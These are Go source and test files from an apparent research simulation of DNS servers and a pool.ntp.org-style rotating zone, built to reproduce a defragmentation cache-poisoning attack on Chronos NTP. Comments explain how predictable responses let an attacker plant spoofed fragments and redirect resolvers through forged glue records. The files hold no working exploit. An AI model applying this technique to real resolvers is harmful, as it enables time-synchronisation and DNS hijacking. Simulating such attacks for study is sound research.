			dup := pkt
			return simnet.Replace, []simnet.Packet{pkt, dup}
		}
		return simnet.Pass, nil
	}))
	resHost, _ := n.AddHost(resolverIP)
	res, err := New(resHost, Config{}, []Hint{{Zone: "ntp.org", Addr: simnet.Addr{IP: ntpOrgIP, Port: 53}}})
	if err != nil {
		t.Fatal(err)
	}
	calls := 0
	res.Lookup("www.ntp.org", dnswire.TypeA, func(r Result) {
		calls++
		if r.Err != nil {
			t.Errorf("lookup failed: %v", r.Err)
		}
	})
	n.RunFor(time.Minute)
	if calls != 1 {
		t.Errorf("callback fired %d times, want exactly once", calls)
	}
}
