package dnsserver

import (
	"testing"
	"time"

	"chronosntp/internal/dnswire"
	"chronosntp/internal/simnet"
)

var (
	serverIP = simnet.IPv4(198, 51, 100, 53)
	clientIP = simnet.IPv4(10, 0, 0, 1)
)

type fixture struct {
	net    *simnet.Network
	server *Authoritative
	client *simnet.Host
}

func newFixture(t *testing.T) *fixture {
	t.Helper()
	n := simnet.New(simnet.Config{Seed: 21})
	sh, err := n.AddHost(serverIP)
	if err != nil {
		t.Fatal(err)
	}
	srv, err := New(sh)
	if err != nil {
		t.Fatal(err)
	}
	ch, err := n.AddHost(clientIP)
	if err != nil {
		t.Fatal(err)
	}
	return &fixture{net: n, server: srv, client: ch}
}

// ask sends a raw query and returns the decoded response (or nil on
// timeout).
func (f *fixture) ask(t *testing.T, msg *dnswire.Message) *dnswire.Message {
	t.Helper()
	port := f.client.EphemeralPort()
	var resp *dnswire.Message
	err := f.client.Listen(port, func(now time.Time, meta simnet.Meta, payload []byte) {
		m, err := dnswire.Decode(payload)
		if err == nil {
			resp = m
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	defer f.client.Close(port)
	b, err := msg.Encode()
	if err != nil {
		t.Fatal(err)
	}
	if err := f.client.SendUDP(port, f.server.Addr(), b); err != nil {
		t.Fatal(err)
	}
	f.net.RunFor(time.Second)
	return resp
}

func TestStaticZoneAnswers(t *testing.T) {
	f := newFixture(t)
	z := NewStaticZone("example.org")
	z.Add(dnswire.ARecord("www.example.org", 300, [4]byte{192, 0, 2, 80}))
	if err := f.server.AddZone("example.org", z); err != nil {
		t.Fatal(err)
	}
	resp := f.ask(t, dnswire.NewQuery(1, "www.example.org", dnswire.TypeA))
	if resp == nil {
		t.Fatal("no response")
	}
	if !resp.Authoritative || resp.RCode != dnswire.RCodeNoError {
		t.Errorf("flags: aa=%v rcode=%v", resp.Authoritative, resp.RCode)
	}
	if len(resp.Answers) != 1 || resp.Answers[0].A != [4]byte{192, 0, 2, 80} {
		t.Errorf("answers: %+v", resp.Answers)
	}
	if f.server.Queries() != 1 {
		t.Errorf("Queries = %d", f.server.Queries())
	}
}

func TestStaticZoneNXDomainAndNoData(t *testing.T) {
	f := newFixture(t)
	z := NewStaticZone("example.org")
	z.Add(dnswire.ARecord("www.example.org", 300, [4]byte{192, 0, 2, 80}))
	if err := f.server.AddZone("example.org", z); err != nil {
		t.Fatal(err)
	}
	if resp := f.ask(t, dnswire.NewQuery(2, "nope.example.org", dnswire.TypeA)); resp == nil || resp.RCode != dnswire.RCodeNXDomain {
		t.Errorf("want NXDOMAIN, got %+v", resp)
	}
	// Existing name, missing type: NOERROR with empty answer.
	if resp := f.ask(t, dnswire.NewQuery(3, "www.example.org", dnswire.TypeTXT)); resp == nil || resp.RCode != dnswire.RCodeNoError || len(resp.Answers) != 0 {
		t.Errorf("want NODATA, got %+v", resp)
	}
}

func TestUnknownZoneRefused(t *testing.T) {
	f := newFixture(t)
	z := NewStaticZone("example.org")
	if err := f.server.AddZone("example.org", z); err != nil {
		t.Fatal(err)
	}
	resp := f.ask(t, dnswire.NewQuery(4, "other.test", dnswire.TypeA))
	if resp == nil || resp.RCode != dnswire.RCodeRefused {
		t.Errorf("want REFUSED, got %+v", resp)
	}
}

func TestDuplicateZoneRejected(t *testing.T) {
	f := newFixture(t)
	if err := f.server.AddZone("example.org", NewStaticZone("example.org")); err != nil {
		t.Fatal(err)
	}
	if err := f.server.AddZone("example.org", NewStaticZone("example.org")); err == nil {
		t.Error("duplicate zone accepted")
	}
}

func TestGarbageIgnored(t *testing.T) {
	f := newFixture(t)
	port := f.client.EphemeralPort()
	_ = f.client.Listen(port, func(time.Time, simnet.Meta, []byte) {
		t.Error("unexpected response to garbage")
	})
	_ = f.client.SendUDP(port, f.server.Addr(), []byte{1, 2, 3})
	f.net.RunFor(time.Second)
}

func TestNotImpForWeirdOpcode(t *testing.T) {
	f := newFixture(t)
	_ = f.server.AddZone("example.org", NewStaticZone("example.org"))
	q := dnswire.NewQuery(5, "example.org", dnswire.TypeA)
	q.Opcode = 2 // STATUS
	resp := f.ask(t, q)
	if resp == nil || resp.RCode != dnswire.RCodeNotImp {
		t.Errorf("want NOTIMP, got %+v", resp)
	}
}

func TestTruncationWithoutEDNS(t *testing.T) {
	f := newFixture(t)
	z := NewStaticZone("big.org")
	for i := 0; i < 80; i++ { // 80 A records exceed 512 bytes
		z.Add(dnswire.ARecord("big.org", 300, [4]byte{10, 0, byte(i >> 8), byte(i)}))
	}
	_ = f.server.AddZone("big.org", z)
	resp := f.ask(t, dnswire.NewQuery(6, "big.org", dnswire.TypeA))
	if resp == nil {
		t.Fatal("no response")
	}
	if !resp.Truncated || len(resp.Answers) != 0 {
		t.Errorf("want truncated empty response, got tc=%v answers=%d", resp.Truncated, len(resp.Answers))
	}
	// With EDNS0 the same response fits.
	q := dnswire.NewQuery(7, "big.org", dnswire.TypeA)
	q.SetEDNS(4096)
	resp = f.ask(t, q)
	if resp == nil || resp.Truncated || len(resp.Answers) != 80 {
		t.Errorf("EDNS response: %+v", resp)
	}
}

func TestPoolZoneRotation(t *testing.T) {
	f := newFixture(t)
	inventory := make([]simnet.IP, 100)
	for i := range inventory {
		inventory[i] = simnet.IPv4(203, 0, byte(i/250), byte(i%250))
	}
	pz, err := NewPoolZone(PoolConfig{Name: "pool.ntp.org"}, f.net.Now(), inventory)
	if err != nil {
		t.Fatal(err)
	}
	_ = f.server.AddZone("pool.ntp.org", pz)
	if pz.InventorySize() != 100 || pz.Name() != "pool.ntp.org" {
		t.Error("pool metadata wrong")
	}

	resp := f.ask(t, dnswire.NewQuery(8, "pool.ntp.org", dnswire.TypeA))
	if resp == nil {
		t.Fatal("no response")
	}
	if len(resp.Answers) != dnswire.BenignPoolResponseRecords {
		t.Fatalf("answers = %d, want 4", len(resp.Answers))
	}
	for _, rr := range resp.Answers {
		if rr.TTL != 150 {
			t.Errorf("TTL = %d, want 150", rr.TTL)
		}
	}

	// Same window → same subset (predictability the attacker probes for).
	resp2 := f.ask(t, dnswire.NewQuery(9, "pool.ntp.org", dnswire.TypeA))
	for i := range resp.Answers {
		if resp.Answers[i].A != resp2.Answers[i].A {
			t.Error("windowed rotation returned different subsets within one window")
		}
	}

	// After the window passes, the subset rotates.
	f.net.RunFor(5 * time.Minute)
	resp3 := f.ask(t, dnswire.NewQuery(10, "pool.ntp.org", dnswire.TypeA))
	same := true
	for i := range resp.Answers {
		if resp.Answers[i].A != resp3.Answers[i].A {
			same = false
		}
	}
	if same {
		t.Error("subset did not rotate across windows")
	}
}

func TestPoolZoneAccumulationOver24Queries(t *testing.T) {
	// Chronos' pool generation: hourly queries accumulate ~4 new servers
	// each, approaching 96 distinct addresses in 24 hours.
	f := newFixture(t)
	inventory := make([]simnet.IP, 500)
	for i := range inventory {
		inventory[i] = simnet.IPv4(203, byte(i/250), byte(i%250), 1)
	}
	pz, err := NewPoolZone(PoolConfig{Name: "pool.ntp.org"}, f.net.Now(), inventory)
	if err != nil {
		t.Fatal(err)
	}
	_ = f.server.AddZone("pool.ntp.org", pz)
	seen := make(map[simnet.IP]bool)
	for hour := 0; hour < 24; hour++ {
		resp := f.ask(t, dnswire.NewQuery(uint16(100+hour), "pool.ntp.org", dnswire.TypeA))
		if resp == nil {
			t.Fatal("no response")
		}
		for _, rr := range resp.Answers {
			seen[simnet.IP(rr.A)] = true
		}
		f.net.RunFor(time.Hour)
	}
	if len(seen) < 80 || len(seen) > 96 {
		t.Errorf("accumulated %d distinct servers over 24 hourly queries, want ~96", len(seen))
	}
}

func TestPoolZoneRandomRotation(t *testing.T) {
	f := newFixture(t)
	inventory := make([]simnet.IP, 50)
	for i := range inventory {
		inventory[i] = simnet.IPv4(203, 0, 113, byte(i+1))
	}
	pz, err := NewPoolZone(PoolConfig{Name: "pool.ntp.org", Rotation: RotateRandom}, f.net.Now(), inventory)
	if err != nil {
		t.Fatal(err)
	}
	_ = f.server.AddZone("pool.ntp.org", pz)
	a := f.ask(t, dnswire.NewQuery(11, "pool.ntp.org", dnswire.TypeA))
	b := f.ask(t, dnswire.NewQuery(12, "pool.ntp.org", dnswire.TypeA))
	same := true
	for i := range a.Answers {
		if a.Answers[i].A != b.Answers[i].A {
			same = false
		}
	}
	if same {
		t.Error("random rotation returned identical consecutive subsets (unlikely)")
	}
}

func TestPoolZoneEdgeCases(t *testing.T) {
	if _, err := NewPoolZone(PoolConfig{Name: "pool.ntp.org"}, time.Time{}, nil); err == nil {
		t.Error("empty inventory accepted")
	}
	f := newFixture(t)
	pz, err := NewPoolZone(PoolConfig{Name: "pool.ntp.org", PerResponse: 10}, f.net.Now(), []simnet.IP{simnet.IPv4(1, 2, 3, 4)})
	if err != nil {
		t.Fatal(err)
	}
	_ = f.server.AddZone("pool.ntp.org", pz)
	// PerResponse larger than inventory is clamped.
	resp := f.ask(t, dnswire.NewQuery(13, "pool.ntp.org", dnswire.TypeA))
	if len(resp.Answers) != 1 {
		t.Errorf("answers = %d, want 1", len(resp.Answers))
	}
	// Wrong name under the zone → NXDOMAIN; wrong type → NODATA.
	if resp := f.ask(t, dnswire.NewQuery(14, "x.pool.ntp.org", dnswire.TypeA)); resp.RCode != dnswire.RCodeNXDomain {
		t.Error("want NXDOMAIN for unknown name in pool zone")
	}
	if resp := f.ask(t, dnswire.NewQuery(15, "pool.ntp.org", dnswire.TypeTXT)); resp.RCode != dnswire.RCodeNoError || len(resp.Answers) != 0 {
		t.Error("want NODATA for non-A query")
	}
}

func TestDelegatingZoneReferral(t *testing.T) {
	f := newFixture(t)
	root := NewDelegatingZone("")
	root.Delegate(Delegation{
		Child: "ntp.org",
		NSTTL: 3600,
		Glue: []NSGlue{
			{Name: "ns1.ntp.org", IP: simnet.IPv4(198, 51, 100, 10), TTL: 3600},
			{Name: "ns2.ntp.org", IP: simnet.IPv4(198, 51, 100, 11), TTL: 3600},
		},
	})
	root.Add(dnswire.TXTRecord("", 60, "root"))
	_ = f.server.AddZone("", root)

	resp := f.ask(t, dnswire.NewQuery(16, "pool.ntp.org", dnswire.TypeA))
	if resp == nil {
		t.Fatal("no response")
	}
	if len(resp.Answers) != 0 {
		t.Error("referral should carry no answers")
	}
	if len(resp.Authority) != 2 || resp.Authority[0].Type != dnswire.TypeNS {
		t.Fatalf("authority: %+v", resp.Authority)
	}
	if resp.Authority[0].Name != "ntp.org" {
		t.Errorf("delegated zone = %q", resp.Authority[0].Name)
	}
	glue := 0
	for _, rr := range resp.Additional {
		if rr.Type == dnswire.TypeA {
			glue++
		}
	}
	if glue != 2 {
		t.Errorf("glue records = %d, want 2", glue)
	}

	// Own records still served.
	if resp := f.ask(t, dnswire.NewQuery(17, "", dnswire.TypeTXT)); len(resp.Answers) != 1 {
		t.Error("own zone record not served")
	}
}
