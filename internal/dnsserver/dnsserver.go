// Package dnsserver implements an authoritative DNS server for the
// simulated network, including a pool.ntp.org-style rotating zone: each A
// query is answered with a small rotating subset (4 by default) of a large
// NTP-server inventory, with a short TTL — exactly the behaviour Chronos'
// pool-generation mechanism relies on to accumulate ~96 distinct servers
// over 24 hourly queries.
//
// The nameservers for pool.ntp.org studied by the paper's companion
// measurement work do not deploy DNSSEC and fragment large responses at
// path MTUs down to 548 bytes; both properties are modelled here (absence
// of DNSSEC by construction, fragmentation by the simulator's path MTU).
package dnsserver

import (
	"errors"
	"fmt"
	"math/rand"
	"time"

	"chronosntp/internal/dnswire"
	"chronosntp/internal/simnet"
)

// DNSPort is the well-known DNS UDP port.
const DNSPort = 53

// ErrZoneExists is returned when registering a duplicate zone.
var ErrZoneExists = errors.New("dnsserver: zone already registered")

// Responder produces the sections of an authoritative answer for one
// question inside a zone.
type Responder interface {
	// Respond returns answers, authority and additional records plus an
	// RCode for the question. rng is the simulation's seeded source.
	Respond(now time.Time, q dnswire.Question, rng *rand.Rand) Answer
}

// Answer is an authoritative response body.
type Answer struct {
	RCode      dnswire.RCode
	Answers    []dnswire.RR
	Authority  []dnswire.RR
	Additional []dnswire.RR
}

// Authoritative is a DNS server bound to a simulated host. It serves any
// number of zones, each backed by a Responder.
type Authoritative struct {
	host    *simnet.Host
	zones   map[string]Responder
	queries uint64
}

// New binds an authoritative server to port 53 of host.
func New(host *simnet.Host) (*Authoritative, error) {
	a := &Authoritative{host: host, zones: make(map[string]Responder)}
	if err := host.Listen(DNSPort, a.handle); err != nil {
		return nil, fmt.Errorf("dnsserver: %w", err)
	}
	return a, nil
}

// Addr returns the server's DNS endpoint.
func (a *Authoritative) Addr() simnet.Addr {
	return simnet.Addr{IP: a.host.IP(), Port: DNSPort}
}

// Queries reports the number of queries handled.
func (a *Authoritative) Queries() uint64 { return a.queries }

// AddZone registers responder as authoritative for zone (canonical name).
func (a *Authoritative) AddZone(zone string, responder Responder) error {
	zone = dnswire.NormalizeName(zone)
	if _, ok := a.zones[zone]; ok {
		return fmt.Errorf("%w: %q", ErrZoneExists, zone)
	}
	a.zones[zone] = responder
	return nil
}

// findZone returns the most specific registered zone containing name.
func (a *Authoritative) findZone(name string) (string, Responder, bool) {
	best := ""
	var bestR Responder
	found := false
	for zone, r := range a.zones {
		if dnswire.InZone(name, zone) && (!found || len(zone) > len(best)) {
			best, bestR, found = zone, r, true
		}
	}
	return best, bestR, found
}

// handle is the UDP handler for port 53.
func (a *Authoritative) handle(now time.Time, meta simnet.Meta, payload []byte) {
	query, err := dnswire.DecodeBorrow(payload)
	if err != nil || query.Response || len(query.Questions) != 1 {
		return // garbage in, silence out
	}
	a.queries++
	q := query.Questions[0]
	resp := query.Reply()
	resp.Authoritative = true

	maxPayload := query.MaxPayload()
	if sz, ok := query.EDNSSize(); ok {
		resp.SetEDNS(sz)
	}

	if query.Opcode != 0 {
		resp.RCode = dnswire.RCodeNotImp
		a.send(meta, resp)
		return
	}
	_, responder, ok := a.findZone(q.Name)
	if !ok {
		resp.RCode = dnswire.RCodeRefused
		a.send(meta, resp)
		return
	}
	ans := responder.Respond(now, q, a.host.Net().Rand())
	resp.RCode = ans.RCode
	resp.Answers = ans.Answers
	resp.Authority = ans.Authority
	resp.Additional = append(ans.Additional, resp.Additional...)

	// Truncate if the response exceeds what the client can accept.
	if b, err := resp.Encode(); err == nil && len(b) > maxPayload {
		resp.Truncated = true
		resp.Answers = nil
		resp.Authority = nil
	}
	a.send(meta, resp)
}

func (a *Authoritative) send(meta simnet.Meta, resp *dnswire.Message) {
	b, err := resp.Encode()
	if err != nil {
		return
	}
	// Reply from port 53 to the querier's source endpoint. Send errors
	// are dropped packets — UDP semantics.
	_ = a.host.SendUDP(DNSPort, meta.From, b)
}

// StaticZone is a Responder backed by a fixed record set.
type StaticZone struct {
	zone    string
	records map[recordKey][]dnswire.RR
}

type recordKey struct {
	name  string
	qtype dnswire.Type
}

// NewStaticZone builds an empty static zone.
func NewStaticZone(zone string) *StaticZone {
	return &StaticZone{zone: dnswire.NormalizeName(zone), records: make(map[recordKey][]dnswire.RR)}
}

// Add appends rr to the zone.
func (z *StaticZone) Add(rr dnswire.RR) {
	k := recordKey{name: dnswire.NormalizeName(rr.Name), qtype: rr.Type}
	z.records[k] = append(z.records[k], rr)
}

var _ Responder = (*StaticZone)(nil)

// Respond implements Responder.
func (z *StaticZone) Respond(now time.Time, q dnswire.Question, rng *rand.Rand) Answer {
	rrs, ok := z.records[recordKey{name: dnswire.NormalizeName(q.Name), qtype: q.Type}]
	if !ok {
		// Name exists with another type → NOERROR/empty; else NXDOMAIN.
		for k := range z.records {
			if k.name == dnswire.NormalizeName(q.Name) {
				return Answer{}
			}
		}
		return Answer{RCode: dnswire.RCodeNXDomain}
	}
	return Answer{Answers: append([]dnswire.RR(nil), rrs...)}
}
