package dnsserver

import (
	"errors"
	"math/rand"
	"sync"
	"time"

	"chronosntp/internal/dnswire"
	"chronosntp/internal/simnet"
)

// Rotation selects how the pool zone picks which subset of its inventory
// to return for each query.
type Rotation int

const (
	// RotateWindowed returns a subset determined by the query's time
	// window (default 150 s, matching the record TTL): every query inside
	// one window sees the same answer. This mirrors real pool behaviour
	// closely enough and — crucially for the defragmentation attack — lets
	// an attacker probe the nameserver, learn the exact bytes of the
	// current response, and plant a checksum-compensated spoofed fragment
	// before the victim resolver queries inside the same window.
	RotateWindowed Rotation = iota + 1
	// RotateRandom draws a fresh random subset per query, making response
	// bytes unpredictable (an ablation: it degrades the defragmentation
	// attack to a probabilistic one).
	RotateRandom
)

// PoolConfig parameterises a PoolZone.
type PoolConfig struct {
	Name        string        // pool domain, e.g. "pool.ntp.org"
	TTL         uint32        // per-record TTL in seconds; default 150
	PerResponse int           // addresses per response; default 4
	Rotation    Rotation      // default RotateWindowed
	Window      time.Duration // rotation window; default TTL
}

func (c PoolConfig) withDefaults() PoolConfig {
	if c.TTL == 0 {
		c.TTL = 150
	}
	if c.PerResponse == 0 {
		c.PerResponse = dnswire.BenignPoolResponseRecords
	}
	if c.Rotation == 0 {
		c.Rotation = RotateWindowed
	}
	if c.Window == 0 {
		c.Window = time.Duration(c.TTL) * time.Second
	}
	return c
}

// ErrEmptyPool is returned when constructing a pool with no servers.
var ErrEmptyPool = errors.New("dnsserver: empty pool inventory")

// PoolZone answers A queries for a pool domain with a rotating subset of a
// large NTP-server inventory, like pool.ntp.org.
type PoolZone struct {
	cfg       PoolConfig
	inventory []simnet.IP
	epoch     time.Time

	// Memoized RotateWindowed selection. Every query inside one window
	// sees the same subset by construction, so the window-seeded draw (a
	// full 607-word RNG seeding per call) and its A-record set are
	// computed once per window and replayed for the rest of it.
	memoWindow int64
	memoIPs    []simnet.IP
	memoRRs    []dnswire.RR
	memoValid  bool
	permIdx    []int32 // scratch for the cached window permutation prefix
}

// permKey identifies a windowed draw: the window-derived seed plus the
// permutation shape. The drawn prefix is fully determined by it.
type permKey struct {
	window int64
	n, k   int
}

// permCache is a process-wide direct-mapped cache of windowed
// permutation prefixes. Shard networks in a fleet run are queried for
// the same rotation windows over the same inventory sizes, so the
// window-seeded rand.NewSource — 8% of fleet CPU before this cache —
// runs once per distinct window instead of once per shard per window.
// Entries are pure functions of their key, so a hit is bit-identical to
// a recompute and collisions (which overwrite) only cost time.
var permCache struct {
	sync.Mutex
	entries [4096]struct {
		key   permKey
		valid bool
		idx   []int32
	}
}

// windowPerm returns the first k indices of the window-seeded permutation
// of n elements, appending into dst[:0].
func windowPerm(window int64, n, k int, dst []int32) []int32 {
	key := permKey{window: window, n: n, k: k}
	h := uint64(window)*0x9E3779B97F4A7C15 ^ uint64(n)<<20 ^ uint64(k)
	slot := (h ^ h>>29) & uint64(len(permCache.entries)-1)
	permCache.Lock()
	if e := &permCache.entries[slot]; e.valid && e.key == key {
		dst = append(dst[:0], e.idx...)
		permCache.Unlock()
		return dst
	}
	permCache.Unlock()
	wrng := rand.New(rand.NewSource(window ^ 0x5DEECE66D))
	idx := make([]int32, k)
	for i, j := range wrng.Perm(n)[:k] {
		idx[i] = int32(j)
	}
	permCache.Lock()
	e := &permCache.entries[slot]
	e.key, e.valid, e.idx = key, true, idx
	permCache.Unlock()
	return append(dst[:0], idx...)
}

var _ Responder = (*PoolZone)(nil)

// NewPoolZone builds a pool zone over inventory. The epoch anchors the
// rotation windows.
func NewPoolZone(cfg PoolConfig, epoch time.Time, inventory []simnet.IP) (*PoolZone, error) {
	if len(inventory) == 0 {
		return nil, ErrEmptyPool
	}
	cfg = cfg.withDefaults()
	cfg.Name = dnswire.NormalizeName(cfg.Name)
	inv := make([]simnet.IP, len(inventory))
	copy(inv, inventory)
	return &PoolZone{cfg: cfg, inventory: inv, epoch: epoch}, nil
}

// Name returns the pool's domain name.
func (p *PoolZone) Name() string { return p.cfg.Name }

// InventorySize returns the number of servers behind the pool.
func (p *PoolZone) InventorySize() int { return len(p.inventory) }

// Respond implements Responder.
func (p *PoolZone) Respond(now time.Time, q dnswire.Question, rng *rand.Rand) Answer {
	if dnswire.NormalizeName(q.Name) != p.cfg.Name {
		return Answer{RCode: dnswire.RCodeNXDomain}
	}
	if q.Type != dnswire.TypeA {
		return Answer{} // NOERROR, no data
	}
	if p.cfg.Rotation != RotateRandom {
		p.refreshWindow(now)
		// The memoized record set is shared across every query of the
		// window; handlers treat answer sections as read-only.
		return Answer{Answers: p.memoRRs}
	}
	ips := p.Select(now, rng)
	ans := Answer{Answers: make([]dnswire.RR, 0, len(ips))}
	for _, ip := range ips {
		ans.Answers = append(ans.Answers, dnswire.ARecord(p.cfg.Name, p.cfg.TTL, [4]byte(ip)))
	}
	return ans
}

// refreshWindow recomputes the memoized windowed selection if now falls in
// a different rotation window than the cached one.
func (p *PoolZone) refreshWindow(now time.Time) {
	window := int64(now.Sub(p.epoch) / p.cfg.Window)
	if p.memoValid && p.memoWindow == window {
		return
	}
	k := p.cfg.PerResponse
	if k > len(p.inventory) {
		k = len(p.inventory)
	}
	// A window-seeded RNG gives every query in the window the same
	// deterministic subset. The drawn index prefix is a pure function of
	// (window, inventory size, k), so it is shared process-wide: at fleet
	// scale a hundred shard networks roll into the same window together,
	// and only the first pays the 607-word RNG seeding.
	p.permIdx = windowPerm(window, len(p.inventory), k, p.permIdx)
	p.memoIPs = p.memoIPs[:0]
	for _, j := range p.permIdx {
		p.memoIPs = append(p.memoIPs, p.inventory[j])
	}
	p.memoRRs = p.memoRRs[:0]
	for _, ip := range p.memoIPs {
		p.memoRRs = append(p.memoRRs, dnswire.ARecord(p.cfg.Name, p.cfg.TTL, [4]byte(ip)))
	}
	p.memoWindow, p.memoValid = window, true
}

// Select returns the addresses the pool would answer with at time now.
// Exported so attack code can "probe" the response without the network
// round-trip in analytical experiments. In RotateWindowed mode the
// returned slice is the memoized per-window selection — treat it as
// read-only and consume it before the window rolls over.
func (p *PoolZone) Select(now time.Time, rng *rand.Rand) []simnet.IP {
	if p.cfg.Rotation == RotateRandom {
		k := p.cfg.PerResponse
		if k > len(p.inventory) {
			k = len(p.inventory)
		}
		return p.pick(rng, k)
	}
	p.refreshWindow(now)
	return p.memoIPs
}

// pick draws k distinct inventory addresses using rng.
func (p *PoolZone) pick(rng *rand.Rand, k int) []simnet.IP {
	idx := rng.Perm(len(p.inventory))[:k]
	out := make([]simnet.IP, k)
	for i, j := range idx {
		out[i] = p.inventory[j]
	}
	return out
}
