package dnsserver

import (
	"math/rand"
	"sort"
	"time"

	"chronosntp/internal/dnswire"
	"chronosntp/internal/simnet"
)

// Delegation describes a child zone cut: NS records plus glue addresses.
type Delegation struct {
	Child string   // delegated zone, e.g. "ntp.org"
	NSTTL uint32   // TTL of the NS records
	Glue  []NSGlue // nameservers with their addresses
}

// NSGlue pairs a nameserver name with its glue address and TTL.
type NSGlue struct {
	Name string
	IP   simnet.IP
	TTL  uint32
}

// DelegatingZone serves a zone's own records and referrals for its child
// zone cuts, the behaviour a parent (root/TLD) server exhibits. Referral
// responses — authority NS plus additional glue — are the payload the
// defragmentation-poisoning attack rewrites: spoofed glue redirects a
// victim resolver to an attacker-controlled "nameserver".
type DelegatingZone struct {
	zone        string
	own         *StaticZone
	delegations map[string]Delegation
}

var _ Responder = (*DelegatingZone)(nil)

// NewDelegatingZone builds an empty delegating zone.
func NewDelegatingZone(zone string) *DelegatingZone {
	zone = dnswire.NormalizeName(zone)
	return &DelegatingZone{
		zone:        zone,
		own:         NewStaticZone(zone),
		delegations: make(map[string]Delegation),
	}
}

// Add appends an own-zone record.
func (z *DelegatingZone) Add(rr dnswire.RR) { z.own.Add(rr) }

// Delegate registers a child zone cut.
func (z *DelegatingZone) Delegate(d Delegation) {
	d.Child = dnswire.NormalizeName(d.Child)
	z.delegations[d.Child] = d
}

// Respond implements Responder: referral for names under a delegated
// child, own records otherwise.
func (z *DelegatingZone) Respond(now time.Time, q dnswire.Question, rng *rand.Rand) Answer {
	name := dnswire.NormalizeName(q.Name)
	// Most specific delegation containing the name wins.
	var best string
	found := false
	for child := range z.delegations {
		if dnswire.InZone(name, child) && child != z.zone && (!found || len(child) > len(best)) {
			best, found = child, true
		}
	}
	if found {
		d := z.delegations[best]
		ans := Answer{}
		// Deterministic glue order keeps responses byte-predictable
		// inside a rotation window (the attack probes for exact bytes).
		glue := append([]NSGlue(nil), d.Glue...)
		sort.Slice(glue, func(i, j int) bool { return glue[i].Name < glue[j].Name })
		for _, g := range glue {
			ans.Authority = append(ans.Authority, dnswire.NSRecord(d.Child, d.NSTTL, g.Name))
			ans.Additional = append(ans.Additional, dnswire.ARecord(g.Name, g.TTL, [4]byte(g.IP)))
		}
		return ans
	}
	return z.own.Respond(now, q, rng)
}
