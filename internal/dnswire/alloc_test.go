package dnswire

import (
	"bytes"
	"testing"
)

// benignResponse is the wire image a resolver parses on every pool query:
// one question, four A records. The hot path of the simulation.
func benignResponse(t *testing.T) []byte {
	t.Helper()
	m := NewQuery(0x1234, "pool.ntp.org", TypeA)
	r := m.Reply()
	r.Answers = []RR{
		ARecord("pool.ntp.org", 150, [4]byte{192, 0, 2, 1}),
		ARecord("pool.ntp.org", 150, [4]byte{192, 0, 2, 2}),
		ARecord("pool.ntp.org", 150, [4]byte{192, 0, 2, 3}),
		ARecord("pool.ntp.org", 150, [4]byte{192, 0, 2, 4}),
	}
	b, err := r.Encode()
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestDecodeBorrowAllocCeiling caps the allocation cost of parsing the
// common pool response: the Message, one slice per populated section, and
// one string per name — nothing else. The ceiling is a ratchet — lower it
// if decode gets leaner, never raise it without a corresponding
// simulation-wide justification.
func TestDecodeBorrowAllocCeiling(t *testing.T) {
	wire := benignResponse(t)
	allocs := testing.AllocsPerRun(200, func() {
		if _, err := DecodeBorrow(wire); err != nil {
			t.Fatal(err)
		}
	})
	const ceiling = 8
	if allocs > ceiling {
		t.Fatalf("DecodeBorrow allocates %.1f objects/op, ceiling %d", allocs, ceiling)
	}
}

// TestDecodeBorrowCheaperOnRawRData pins the point of borrow mode: opaque
// RDATA (unknown types) aliases the input buffer instead of being copied,
// so DecodeBorrow must allocate strictly less than Decode on such a
// message. A-record parsing never copies RDATA in either mode, which is
// why the benign-response ceiling above holds for both.
func TestDecodeBorrowCheaperOnRawRData(t *testing.T) {
	m := &Message{Answers: []RR{
		{Name: "a.example", Type: Type(99), Class: ClassIN, TTL: 5, Raw: []byte{1, 2, 3, 4, 5}},
		{Name: "b.example", Type: Type(99), Class: ClassIN, TTL: 5, Raw: []byte{6, 7, 8, 9, 10}},
	}}
	wire, err := m.Encode()
	if err != nil {
		t.Fatal(err)
	}
	borrow := testing.AllocsPerRun(200, func() {
		if _, err := DecodeBorrow(wire); err != nil {
			t.Fatal(err)
		}
	})
	copying := testing.AllocsPerRun(200, func() {
		if _, err := Decode(wire); err != nil {
			t.Fatal(err)
		}
	})
	if borrow >= copying {
		t.Fatalf("DecodeBorrow (%.1f allocs/op) is not cheaper than Decode (%.1f) on raw RDATA; borrow mode lost its point",
			borrow, copying)
	}
	got, err := DecodeBorrow(wire)
	if err != nil {
		t.Fatal(err)
	}
	// Aliasing check: the borrowed Raw field points into the wire image.
	idx := bytes.Index(wire, m.Answers[0].Raw)
	if idx < 0 || &got.Answers[0].Raw[0] != &wire[idx] {
		t.Fatal("DecodeBorrow copied raw RDATA instead of aliasing the input")
	}
}
