package dnswire

import (
	"testing"
)

// FuzzParseMessage hammers the wire-format decoder with arbitrary bytes.
// The decoder sits directly on the attack surface — it parses spoofed,
// fragment-reassembled and attacker-forged responses — so it must never
// panic, and anything it accepts must survive a re-encode/re-decode round
// trip.
func FuzzParseMessage(f *testing.F) {
	// Seed corpus: the message shapes the reproduction actually exchanges.
	q := NewQuery(0x1234, "pool.ntp.org", TypeA)
	q.SetEDNS(4096)
	if b, err := q.Encode(); err == nil {
		f.Add(b)
	}
	resp := q.Reply()
	resp.Authoritative = true
	for i := 0; i < 16; i++ {
		resp.Answers = append(resp.Answers, ARecord("pool.ntp.org", 150, [4]byte{203, 0, 0, byte(i + 1)}))
	}
	resp.Authority = append(resp.Authority, NSRecord("ntp.org", 3590, "ns1.ntp.org"))
	resp.Additional = append(resp.Additional, ARecord("ns1.ntp.org", 3590, [4]byte{198, 51, 100, 10}))
	if b, err := resp.Encode(); err == nil {
		f.Add(b)
	}
	soa := &Message{ID: 9, Response: true, RCode: RCodeNXDomain}
	soa.Questions = append(soa.Questions, Question{Name: "nx.ntp.org", Type: TypeA, Class: ClassIN})
	soa.Authority = append(soa.Authority, RR{
		Name: "ntp.org", Type: TypeSOA, Class: ClassIN, TTL: 30,
		SOA: &SOAData{MName: "ns1.ntp.org", RName: "hostmaster.ntp.org", Serial: 1, Minimum: 30},
	})
	soa.Additional = append(soa.Additional,
		TXTRecord("probe.ntp.org", 60, "chronos", "reproduction"),
		CNAMERecord("www.ntp.org", 60, "ntp.org"),
	)
	if b, err := soa.Encode(); err == nil {
		f.Add(b)
	}
	// Adversarial shapes: truncated header, compression self-pointer,
	// absurd section counts.
	f.Add([]byte{0, 1, 0, 0})
	f.Add([]byte{0, 1, 0x80, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0xC0, 0x0C, 0, 1, 0, 1})
